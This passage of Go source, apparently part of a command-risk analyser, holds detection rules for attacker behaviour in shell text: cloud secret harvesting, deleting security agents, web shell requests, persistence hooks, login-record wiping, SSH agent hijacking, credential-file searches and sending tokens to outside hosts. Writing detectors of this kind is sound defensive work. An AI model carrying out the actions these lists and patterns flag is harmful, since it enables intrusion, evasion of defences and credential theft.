		"aws":    {{"secretsmanager", "get-secret-value"}, {"ssm", "get-parameter"}},
		"az":     {{"keyvault", "secret", "show"}, {"keyvault", "secret", "download"}},
		"gcloud": {{"secrets", "versions", "access"}},
	}
	secretLists = map[string][][]string{
		"aws":    {{"secretsmanager", "list-secrets"}, {"ssm", "describe-parameters"}},
		"az":     {{"keyvault", "secret", "list"}},
		"gcloud": {{"secrets", "list"}},
	}
)

func hasWords(c *call, subs [][]string) bool {
	args := strings.Join(c.args(), " ")
	for _, s := range subs {
		if strings.Contains(" "+args+" ", " "+strings.Join(s, " ")+" ") {
			return true
		}
	}
	return false
}

// checkCloudSecretsHarvest: a get of one secret whose name is not written
// in the text (a loop variable, xargs' {}) in a text that lists them all.
func checkCloudSecretsHarvest(c *call, _ *config) *hit {
	gets, ok := secretGets[c.name]
	if !ok || !hasWords(c, gets) {
		return nil
	}
	named := true
	for _, a := range c.args() {
		if strings.ContainsAny(a, "${}`") {
			named = false
		}
	}
	if c.wrapped("xargs") || c.wrapped("parallel") {
		named = false
	}
	if named {
		return nil
	}
	for _, o := range c.a.calls {
		if lists, ok := secretLists[o.name]; ok && hasWords(o, lists) {
			return c.rule()
		}
	}
	return nil
}

// securityProductDirs are where endpoint security agents install.
var securityProductDirs = []string{"/opt/crowdstrike", "/opt/carbonblack", "/opt/sentinelone", "/opt/sophos-av", "/opt/sophos", "/opt/microsoft/mdatp",
	"/opt/ds_agent", "/opt/trendmicro", "/opt/eset", "/opt/cylance", "/opt/tanium", "/opt/fireeye", "/opt/elastic/endpoint", "/var/ossec",
	"/opt/osquery", "/var/lib/falcon", "/library/cs", "/library/application support/crowdstrike", "/library/sentinel",
	"/library/application support/com.sentinelone", "/library/application support/microsoft/defender", "/applications/falcon.app",
	"/usr/local/jamf/bin/jamfprotect", "/library/application support/jamfprotect", "/opt/velociraptor", "/etc/osquery",
	// macOS's own malware protection.
	"/library/apple/system/library/coreservices/xprotect.bundle", "/library/apple/system/library/coreservices/xprotect.app",
	"/library/apple/system/library/coreservices/mrt.app", "/system/library/coreservices/xprotect.bundle"}

func checkSecurityProductRemoved(c *call, _ *config) *hit {
	if c.name != "rm" && c.name != "shred" && c.name != "srm" {
		return nil
	}
	for _, op := range operands(c, "") {
		n := lower(strings.ReplaceAll(normPath(op), "\\ ", " "))
		for _, d := range securityProductDirs {
			if n == d || strings.HasPrefix(n, d+"/") || strings.HasPrefix(n, d+".") || strings.HasPrefix(n, d+"*") {
				return c.rule()
			}
		}
	}
	return nil
}

// webShellKeys are the request parameters web shells take commands in;
// for the one-letter and generic ones (c, x, run) the value must look like
// a command line (a program and its arguments), as ?c=cat would also be a
// category.
var (
	webShellKeys     = set("cmd", "command", "exec", "execute", "shell", "system", "cmdline")
	webShellWeakKeys = set("c", "x", "run")
)

// webShellPrograms are what a command sent to a web shell starts with: a
// first look around the host, or the next stage.
var webShellPrograms = set("id", "whoami", "uname", "hostname", "pwd", "ls", "cat", "ifconfig", "ip", "netstat", "ps", "wget", "curl",
	"bash", "sh", "nc", "ncat", "python", "python3", "perl", "php", "echo", "chmod", "rm", "cp", "mv", "find", "tar", "base64",
	"powershell", "cmd", "cmd.exe", "net", "dir", "type", "ipconfig", "systeminfo", "tasklist", "certutil", "env", "sudo")

func checkWebShellCommand(c *call, _ *config) *hit {
	if !isFetcher(c) {
		return nil
	}
	for _, u := range urls(c) {
		if !strings.Contains(u, "?") {
			continue
		}
		// The query alone: an emulation plan's #{host} is no host name
		// and would start the fragment.
		q := u[strings.IndexByte(u, '?')+1:]
		if i := strings.IndexByte(q, '#'); i >= 0 && !strings.HasPrefix(q[i:], "#{") {
			q = q[:i]
		}
		vals, _ := url.ParseQuery(q)
		for k, vs := range vals {
			strong, weak := webShellKeys[lower(k)], webShellWeakKeys[lower(k)]
			if !strong && !weak {
				continue
			}
			for _, v := range vs {
				f := strings.Fields(v)
				if len(f) > 0 && webShellPrograms[lower(progName(f[0]))] && (strong || len(f) > 1) {
					return c.rule()
				}
			}
		}
	}
	return nil
}

var (
	modprobeInstallRe = regexp.MustCompile(`(?m)^\s*install\s+\S+\s+(\S+)`)
	pthImportRe       = regexp.MustCompile(`(?m)^\s*import\s`)
)

func checkConfigCommandHook(c *call, _ *config) *hit {
	for _, w := range writes(c) {
		n := normPath(w)
		text := written(c)
		switch {
		case strings.HasPrefix(n, "/etc/modprobe.d/"):
			for _, m := range modprobeInstallRe.FindAllStringSubmatch(text, 8) {
				switch m[1] {
				case "/bin/true", "/bin/false", "/usr/bin/true", "/usr/bin/false", "true", "false":
				default:
					return c.rule()
				}
			}
		case strings.HasPrefix(n, "/etc/logrotate.d/") || n == "/etc/logrotate.conf":
			l := lower(text)
			if containsAny(l, "/tmp/", "/var/tmp/", "/dev/shm", "/users/shared/", "curl", "wget", "/dev/tcp", "nc ", "base64") || strings.Contains(l, "/.") {
				return c.rule()
			}
		case strings.HasSuffix(n, ".pth") && (strings.Contains(n, "-packages/") || strings.Contains(n, "/site-packages")):
			if pthImportRe.MatchString(text) {
				return c.rule()
			}
		case strings.HasSuffix(n, "/sitecustomize.py") || strings.HasSuffix(n, "/usercustomize.py"):
			if execCodeRe.MatchString(text) || strings.Contains(text, "os.system") {
				return c.rule()
			}
		case n == "/etc/security/pam_env.conf" || n == "/etc/environment" || strings.HasPrefix(n, "/etc/environment.d/"):
			if strings.Contains(text, "LD_PRELOAD") || strings.Contains(text, "LD_LIBRARY_PATH") && containsAny(text, "/tmp/", "/var/tmp/", "/dev/shm") {
				return c.rule()
			}
		}
	}
	return nil
}

func checkUntrustedSource(c *call, _ *config) *hit {
	for _, w := range writes(c) {
		n := normPath(w)
		text := lower(written(c))
		switch {
		case strings.HasPrefix(n, "/etc/apt/sources.list"):
			if strings.Contains(text, "trusted=yes") || strings.Contains(text, "allow-insecure=yes") {
				return c.rule()
			}
		case strings.HasPrefix(n, "/etc/yum.repos.d/") || strings.HasPrefix(n, "/etc/zypp/repos.d/") || strings.HasPrefix(n, "/etc/dnf/"):
			if strings.Contains(text, "gpgcheck=0") {
				return c.rule()
			}
		}
	}
	return nil
}

func checkLoginRecords(c *call, _ *config) *hit {
	switch c.name {
	case "lastlog":
		if hasFlag(c, "C", "--clear") {
			return c.rule()
		}
	case "utmpdump":
		if !hasFlag(c, "r", "--reverse") {
			return nil
		}
		for _, w := range writes(c) {
			if b := path.Base(normPath(w)); b == "wtmp" || b == "btmp" || b == "utmp" || b == "lastlog" {
				return c.rule()
			}
		}
		if v, ok := optValue(c, "-o", "--output"); ok {
			if b := path.Base(normPath(v)); b == "wtmp" || b == "btmp" || b == "utmp" {
				return c.rule()
			}
		}
	}
	return nil
}

// clusterDefenses are the names of admission controllers and runtime
// security agents in a cluster.
var clusterDefenseRe = regexp.MustCompile(`(?i)\b(gatekeeper|kyverno|falco|sysdig|aqua|twistlock|prisma-?cloud|neuvector|tetragon|tracee|datadog|crowdstrike|falcon|sentinelone|wiz|kubearmor|stackrox|opa|guardduty|aws-guardduty-agent|defender|microsoft-defender|gke-security|security-profiles-operator)\b`)

func checkK8sDefenseOff(c *call, _ *config) *hit {
	if c.name != "kubectl" && c.name != "oc" && c.name != "helm" {
		return nil
	}
	args := c.args()
	if len(args) > 0 && args[0] == "scale" && clusterDefenseRe.MatchString(strings.Join(args, " ")) && (argIn(c, "--replicas=0") || argAfter(args, "--replicas") == "0") {
		// kubectl scale deployment falco --replicas=0: the agent stops
		// as surely as if it were deleted.
		return c.rule()
	}
	del := -1
	for i, a := range args {
		if a == "delete" || a == "uninstall" && c.name == "helm" {
			del = i
			break
		}
	}
	if del < 0 {
		return nil
	}
	rest := strings.Join(args[del+1:], " ")
	if strings.Contains(rest, "webhookconfiguration") {
		return c.rule()
	}
	// The namespace counts too: kubectl -n falco delete daemonset falco.
	if clusterDefenseRe.MatchString(strings.Join(args, " ")) && (strings.Contains(rest, "daemonset") || strings.Contains(rest, "ds ") || strings.Contains(rest, "deploy") ||
		strings.HasPrefix(rest, "ns ") || strings.HasPrefix(rest, "namespace") || c.name == "helm" || strings.Contains(rest, "clusterpolicy") || strings.Contains(rest, "constraint")) {
		return c.rule()
	}
	return nil
}

func checkAccountLockout(c *call, _ *config) *hit {
	ops := operands(c, "-s -e -E --shell --expiredate -d -g -G -u -c -l -m")
	if len(ops) == 0 || ops[len(ops)-1] != "root" {
		return nil
	}
	switch c.name {
	case "usermod", "chsh":
		if v, ok := optValue(c, "-s", "--shell"); ok && (strings.HasSuffix(v, "nologin") || strings.HasSuffix(v, "/false")) {
			return c.rule()
		}
		if c.name == "usermod" && hasFlag(c, "L", "--lock") {
			return c.rule()
		}
	case "chage":
		if v, ok := optValue(c, "-E", "--expiredate"); ok && (v == "0" || v == "1") {
			return c.rule()
		}
	}
	return nil
}

// scriptTarget reports a file outside the working directory that is run
// as a shell script: a .sh file, or a file in a bin, sbin or scripts
// directory, given by an absolute or home path. Scripts a project keeps
// (./deploy.sh, scripts/release.sh) are the project's own business.
func scriptTarget(p string) bool {
	n := normPath(p)
	if !strings.HasPrefix(n, "/") && !strings.HasPrefix(n, "~") {
		return false
	}
	if strings.HasSuffix(n, ".sh") || strings.HasSuffix(n, ".bash") {
		return true
	}
	switch path.Base(path.Dir(n)) {
	case "bin", "sbin", "scripts":
		return !strings.Contains(path.Base(n), ".") || strings.HasSuffix(n, ".sh")
	}
	return false
}

// checkScriptPlanted judges the text written into a script file as the
// commands it is: a script that copies a shell and makes it setuid, or
// connects one to a remote host, is planted for someone to run.
func checkScriptPlanted(c *call, _ *config) *hit {
	if c.name != "echo" && c.name != "printf" && c.name != "cat" && c.name != "tee" || c.depth >= maxDepth-1 {
		return nil
	}
	target := false
	for _, w := range writes(c) {
		if scriptTarget(w) {
			target = true
		}
	}
	if !target {
		return nil
	}
	text := written(c)
	if c.name == "cat" && c.stdin == "" || len(text) < 4 || len(text) > 8192 {
		return nil
	}
	for _, m := range judgeNested(c.a.ctx, text, defaultConfig) {
		if m.sev >= high && m.rule.ID != "script-planted-unsafe" {
			return hitf(c, 0, "writes a shell script whose own commands are unsafe ("+m.rule.Class+")")
		}
	}
	return nil
}

func checkReleaseAgent(c *call, _ *config) *hit {
	for _, w := range writes(c) {
		if b := path.Base(normPath(w)); b == "release_agent" || b == "notify_on_release" && !strings.HasPrefix(normPath(w), "/sys/fs/cgroup/") {
			return c.rule()
		}
	}
	return nil
}

func checkGitHooksPath(c *call, _ *config) *hit {
	if c.name != "git" {
		return nil
	}
	args := c.args()
	for i, a := range args {
		v := ""
		switch {
		case strings.EqualFold(a, "core.hooksPath") && i+1 < len(args):
			v = args[i+1]
		case strings.HasPrefix(strings.ToLower(a), "core.hookspath="):
			v = a[len("core.hookspath="):]
		}
		if v == "" {
			continue
		}
		n := normPath(v)
		if strings.HasPrefix(strings.Trim(v, "\"'"), "/Users/Shared") {
			return c.rule() // normPath would write it as ~
		}
		if strings.HasPrefix(n, "/tmp/") || strings.HasPrefix(n, "/var/tmp/") || strings.HasPrefix(n, "/dev/shm") ||
			n == "/tmp" || strings.Contains(n, "/.") && !strings.HasPrefix(n, "~/.config/") && !strings.HasPrefix(n, "~/.git") {
			return c.rule()
		}
	}
	return nil
}

// checkCloneThenRun: git clone from a bare IP address or plain http, and a
// later command of the text runs a file inside the clone.
func checkCloneThenRun(c *call, _ *config) *hit {
	if c.name != "git" || c.arg(1) != "clone" {
		return nil
	}
	ops := operands(c, "-b -o -c --branch --origin --depth --config --reference --separate-git-dir -j --jobs")
	if len(ops) < 2 {
		return nil
	}
	u := ops[1]
	h := urlHost(u)
	if !strings.HasPrefix(u, "http://") && !isIPHost(h) {
		return nil
	}
	dir := strings.TrimSuffix(path.Base(strings.TrimSuffix(u, "/")), ".git")
	if len(ops) > 2 {
		dir = ops[2]
	}
	dir = strings.TrimPrefix(normPath(dir), "./")
	for _, o := range c.later() {
		x := strings.TrimPrefix(normPath(executes(o)), "./")
		if x != "" && strings.HasPrefix(x, dir+"/") {
			return c.rule()
		}
	}
	return nil
}

// isIPHost reports a host written as an IPv4 or IPv6 address, with or
// without a port.
func isIPHost(h string) bool {
	if host, _, err := net.SplitHostPort(h); err == nil {
		h = host
	}
	return net.ParseIP(strings.Trim(h, "[]")) != nil
}

// cloudSecretRead reports a call that prints a secret's value from a
// cloud or cluster secret store (what it prints can be sent on).
func cloudSecretRead(c *call) bool {
	if gets, ok := secretGets[c.name]; ok && hasWords(c, gets) {
		return c.name != "aws" || !hasWords(c, [][]string{{"ssm", "get-parameter"}}) || argIn(c, "--with-decryption")
	}
	if c.name == "kubectl" || c.name == "oc" {
		return hasWords(c, [][]string{{"get", "secret"}, {"get", "secrets"}}) && (hasPrefixArg(c, "-o") || hasPrefixArg(c, "--output"))
	}
	return false
}

// credentialNameRe is what a search for credential files names.
var credentialNameRe = regexp.MustCompile(`(?i)(^|[*/])(id_(rsa|dsa|ecdsa|ed25519)\S*|\.?(bash|zsh|sh|mysql|psql)_history|credentials(\.json|\.xml)?|\.git-credentials|\.pgpass|\.netrc|\.s3cfg|wallet\.dat|\*\.(pem|key|kdbx|ppk|p12|pfx|ovpn|keytab)|shadow|kubeconfig|\.kube/config|\.aws/\S*|\.ssh/\S*)$`)

var xargsReaders = set("cat", "cp", "scp", "tar", "base64", "strings", "head", "tail", "less", "more", "zip", "rsync", "curl", "xxd")

func checkFindXargsRead(c *call, _ *config) *hit {
	if !c.wrapped("xargs") || !xargsReaders[c.name] || c.prev == nil || c.prev.name != "find" {
		return nil
	}
	args := c.prev.args()
	for i, a := range args {
		switch a {
		case "-name", "-iname", "-path", "-ipath", "-wholename":
			if i+1 < len(args) && credentialNameRe.MatchString(strings.Trim(args[i+1], "'\"")) {
				return c.rule()
			}
		}
	}
	return nil
}

// stagedHidden reports a path in shared memory, or a hidden file or
// folder inside a temporary or shared directory: where droppers park
// what they run.
func stagedHidden(p string) bool {
	n := normPath(p)
	if strings.HasPrefix(n, "/dev/shm/") {
		return true
	}
	if raw := strings.Trim(p, "\"'"); strings.HasPrefix(raw, "/Users/Shared/") {
		n = raw // normPath writes every /Users/<name> as ~
	}
	for _, d := range []string{"/tmp/", "/var/tmp/", "/private/tmp/", "/Users/Shared/"} {
		if rest, ok := strings.CutPrefix(n, d); ok {
			return strings.HasPrefix(rest, ".") || strings.Contains(rest, "/.")
		}
	}
	return false
}

func checkStagedScript(c *call, _ *config) *hit {
	var script string
	switch {
	case isShell(c.name):
		if i := shellOperand(c.argv); i >= 0 && shellScript(c.argv) < 0 {
			script = c.argv[i]
		}
	case c.name == "osascript":
		if ops := operands(c, "-l -e -s"); len(ops) > 0 && !argIn(c, "-e") {
			script = ops[0]
		}
	case isInterp(c.name) && !strings.HasSuffix(c.name, "awk"):
		script = executes(c)
	}
	if script != "" && stagedHidden(script) {
		return c.rule()
	}
	return nil
}

func checkTrustedNamePlant(c *call, _ *config) *hit {
	switch c.name {
	case "ln", "cp", "mv", "install":
	default:
		return nil
	}
	ops := operands(c, "-m -o -g -t -S --target-directory --mode --owner --group --suffix")
	if len(ops) < 2 {
		return nil
	}
	dst := normPath(ops[len(ops)-1])
	if path.Base(path.Dir(dst)) != "bin" && path.Base(path.Dir(dst)) != "sbin" {
		return nil
	}
	for _, src := range ops[:len(ops)-1] {
		if stagedHidden(src) {
			return c.rule()
		}
	}
	return nil
}

func agentSock(v string) bool {
	return strings.Contains(v, "/tmp/ssh-") && strings.Contains(v, "agent")
}

func checkSSHAgentHijack(c *call, _ *config) *hit {
	if v, ok := c.assigns["SSH_AUTH_SOCK"]; ok && agentSock(v) {
		return c.rule()
	}
	if c.name == "export" || c.name == "declare" || c.name == "" {
		for _, a := range c.args() {
			if v, ok := strings.CutPrefix(a, "SSH_AUTH_SOCK="); ok {
				if agentSock(v) {
					return c.rule()
				}
				for _, sub := range c.substs {
					if sub.name == "ls" || sub.name == "find" {
						if agentSock(strings.Join(sub.args(), " ")) {
							return c.rule()
						}
					}
				}
			}
		}
	}
	return nil
}

var memfdRe = regexp.MustCompile(`(?i)memfd_create`)

func checkFilelessExec(c *call, _ *config) *hit {
	if !isInterp(c.name) {
		return nil
	}
	for _, code := range interpCodeArgs(c) {
		if memfdRe.MatchString(code) && (strings.Contains(code, "/proc/self/fd/") || strings.Contains(code, "fexecve") || execCodeRe.MatchString(code) || strings.Contains(code, "execv")) {
			return c.rule()
		}
	}
	return nil
}

func checkSensitiveSymlink(c *call, _ *config) *hit {
	if c.name != "ln" || !hasFlag(c, "s", "--symbolic") {
		return nil
	}
	ops := operands(c, "-t -S --target-directory --suffix")
	if len(ops) < 2 {
		return nil
	}
	dst := normPath(ops[len(ops)-1])
	if !strings.HasPrefix(dst, "/tmp/") && !strings.HasPrefix(dst, "/var/tmp/") && !strings.HasPrefix(dst, "/dev/shm/") {
		return nil
	}
	for _, src := range ops[:len(ops)-1] {
		n := normPath(src)
		if s, ok := sensitive(src); ok && s.sev >= high || n == "/etc/passwd" || n == "/etc/sudoers" || strings.HasPrefix(n, "/etc/sudoers.d") ||
			strings.HasSuffix(n, "/authorized_keys") || strings.HasPrefix(n, "/etc/cron") {
			return c.rule()
		}
	}
	return nil
}

// readsClipboard reports whether c prints the clipboard's contents.
func readsClipboard(c *call) bool {
	switch c.name {
	case "pbpaste", "wl-paste", "get-clipboard", "gcb":
		return true
	case "xclip":
		return argIn(c, "-o") || argIn(c, "-out")
	case "xsel":
		return !argIn(c, "-i") && !argIn(c, "--input") && !hasFlag(c, "i", "--input")
	case "osascript":
		// osascript -e 'tell application "System Events" to get the clipboard'
		code := asciiLower(strings.Join(c.args(), " "))
		return strings.Contains(code, "the clipboard") && !strings.Contains(code, "set the clipboard")
	}
	return false
}

func checkClipboardStaged(c *call, _ *config) *hit {
	if !readsClipboard(c) {
		return nil
	}
	for _, r := range c.redirs {
		if (r.op == ">" || r.op == ">>") && stagedHidden(r.target) {
			return c.rule()
		}
	}
	return nil
}

// iamWrites are the IAM calls that grant access or make credentials: the
// step a pivot takes once it holds a role's session.
var iamWrites = [][]string{
	{"iam", "create-access-key"}, {"iam", "create-login-profile"}, {"iam", "update-login-profile"},
	{"iam", "attach-user-policy"}, {"iam", "attach-role-policy"}, {"iam", "attach-group-policy"},
	{"iam", "put-user-policy"}, {"iam", "put-role-policy"}, {"iam", "put-group-policy"},
	{"iam", "create-policy-version"}, {"iam", "set-default-policy-version"}, {"iam", "add-user-to-group"},
	{"iam", "update-assume-role-policy"}, {"iam", "create-user"}, {"iam", "create-service-specific-credential"},
	{"iam", "upload-ssh-public-key"}, {"iam", "delete-user-permissions-boundary"}, {"iam", "delete-role-permissions-boundary"},
}

// checkAssumedRoleIAMWrite: an IAM write in a script that captured the
// credentials sts assume-role printed (into variables, through jq or eval,
// or as AWS_SESSION_TOKEN). Each step alone is everyday work (medium at
// most); a session borrowed and then spent on access of its own is the
// pivot of cloud privilege escalation walkthroughs. Pipelines that assume
// a role to deploy use the session for deploys, not for IAM.
func checkAssumedRoleIAMWrite(c *call, _ *config) *hit {
	if c.name != "aws" || !hasWords(c, iamWrites) {
		return nil
	}
	for _, o := range c.a.calls {
		if o == c || o.name != "aws" || !hasWords(o, [][]string{{"sts", "assume-role"}, {"sts", "assume-role-with-web-identity"}, {"sts", "get-federation-token"}}) {
			continue
		}
		if assumedCaptured(o) {
			return c.rule()
		}
	}
	for _, o := range c.a.calls {
		// aws configure set aws_access_key_id … (keys written into a
		// profile by the same script): a session brought in, then spent.
		if o != c && o.name == "aws" && hasWords(o, [][]string{{"configure", "set", "aws_access_key_id"}, {"configure", "set", "aws_session_token"}}) {
			return c.rule()
		}
	}
	return nil
}

// assumedCaptured reports whether what the sts call prints is kept: it is
// piped on, run inside $(…) or backticks, or the script sets a session
// token.
func assumedCaptured(o *call) bool {
	if o.next != nil {
		return true
	}
	t := o.a.text
	if o.start >= 2 && o.start <= len(t) && (t[o.start-2:o.start] == "$(" || t[o.start-1] == '`') {
		return true
	}
	for _, p := range o.a.calls {
		for _, s := range p.substs {
			if s == o {
				return true
			}
		}
	}
	return strings.Contains(strings.ToLower(t), "aws_session_token")
}

// checkK8sEnvSecretHunt: a pod's environment printed (kubectl exec … --
// env, or every pod's spec as JSON) and filtered for secret words.
func checkK8sEnvSecretHunt(c *call, _ *config) *hit {
	if c.name != "kubectl" && c.name != "oc" {
		return nil
	}
	args := c.args()
	if len(args) == 0 {
		return nil
	}
	env := false
	switch args[0] {
	case "exec":
		for i, a := range args {
			if a == "--" && i+1 < len(args) {
				env = args[i+1] == "env" || args[i+1] == "printenv" || args[i+1] == "set"
				break
			}
		}
	case "get":
		env = (argIn(c, "pods", "pod", "po", "deployments", "deploy") && (argIn(c, "-o", "json", "yaml") || hasPrefixArg(c, "-o") || hasPrefixArg(c, "--output")))
	}
	if !env {
		return nil
	}
	for _, d := range downstream(c) {
		switch d.name {
		case "grep", "egrep", "rg", "jq", "awk", "findstr", "select-string":
			for _, a := range d.args() {
				if k8sSecretWordRe.MatchString(a) {
					return c.rule()
				}
			}
		}
	}
	return nil
}

// k8sSecretWordRe is what a search of environments for credentials names.
var k8sSecretWordRe = regexp.MustCompile(`(?i)secret|token|pass(word)?\b|pass\||\bkey\b|key\||api_?key|credential`)

// checkEKSAwsAuthMasters: a kubectl write of the aws-auth map in a text
// that names system:masters.
func checkEKSAwsAuthMasters(c *call, _ *config) *hit {
	if c.name != "kubectl" {
		return nil
	}
	args := c.args()
	if len(args) == 0 {
		return nil
	}
	switch args[0] {
	case "apply", "patch", "edit", "replace", "create", "set":
	default:
		return nil
	}
	t := strings.ToLower(c.a.text)
	if strings.Contains(t, "aws-auth") && strings.Contains(t, "system:masters") {
		return c.rule()
	}
	return nil
}

// argAfter returns the word after flag in args, or "".
func argAfter(args []string, flag string) string {
	for i, a := range args {
		if a == flag && i+1 < len(args) {
			return args[i+1]
		}
	}
	return ""
}

// tokenPrinters print a bearer token for the signed-in cloud or cluster
// identity.
var tokenPrinters = map[string][][]string{
	"az":      {{"account", "get-access-token"}},
	"gcloud":  {{"auth", "print-access-token"}, {"auth", "print-identity-token"}, {"auth", "application-default", "print-access-token"}},
	"aws":     {{"sts", "get-session-token"}, {"ecr", "get-login-password"}, {"codeartifact", "get-authorization-token"}},
	"kubectl": {{"create", "token"}},
}

// checkCloudTokenSent: a token printed and piped on to a program that
// sends it to an address.
func checkCloudTokenSent(c *call, _ *config) *hit {
	subs, ok := tokenPrinters[c.name]
	if !ok || !hasWords(c, subs) {
		return nil
	}
	for _, d := range downstream(c) {
		switch d.name {
		case "curl", "wget", "nc", "ncat", "netcat", "socat", "http", "invoke-webrequest", "invoke-restmethod":
			for _, a := range d.args() {
				if strings.Contains(a, "://") || isIPHost(strings.Split(a, ":")[0]) {
					return c.rule()
				}
			}
		}
	}
	return nil
}
